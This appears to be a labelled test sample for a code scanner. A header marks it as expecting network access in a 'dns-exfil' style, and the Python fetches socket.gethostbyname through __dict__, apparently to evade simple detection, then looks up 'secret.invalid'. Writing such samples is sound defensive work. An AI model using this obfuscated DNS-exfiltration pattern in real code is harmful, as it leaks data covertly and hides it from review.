# expect: net | style: dns-exfil
import socket as s
lookup = s.__dict__["gethostbyname"]
try:
    lookup("secret.invalid")
except OSError:
    pass
results = {}
